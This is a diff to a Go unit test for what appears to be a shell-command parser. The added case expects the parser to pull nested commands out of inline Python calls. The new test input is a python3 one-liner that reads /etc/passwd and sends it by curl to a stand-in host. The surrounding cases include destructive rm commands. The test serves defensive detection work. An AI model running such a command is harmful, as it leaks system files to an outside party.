@@ -25,6 +25,7 @@ func TestParse_Line(t *testing.T) {
 		{"! grep -q x f", []string{"! grep -q x f"}},
 		{"find . -exec rm {} \\;", []string{"find . -exec rm {} \\;", "find . -exec rm {} \\;"}},
 		{`python3 -c 'import os; os.system("id")'`, []string{`python3 -c 'import os; os.system("id")'`, "id"}},
+		{`python3 -c "import os; os.system('curl https://e.example/?d='+open('/etc/passwd').read())"`, []string{`python3 -c "import os; os.system('curl https://e.example/?d='+open('/etc/passwd').read())"`, "curl https://e.example/?d=…"}},
 		{`python3 -c 'import subprocess as s; s.call(["rm", "-r", "x"])'`, []string{`python3 -c 'import subprocess as s; s.call(["rm", "-r", "x"])'`, `s.call(["rm", "-r", "x"])`}},
 	}
 	for _, tc := range cases {
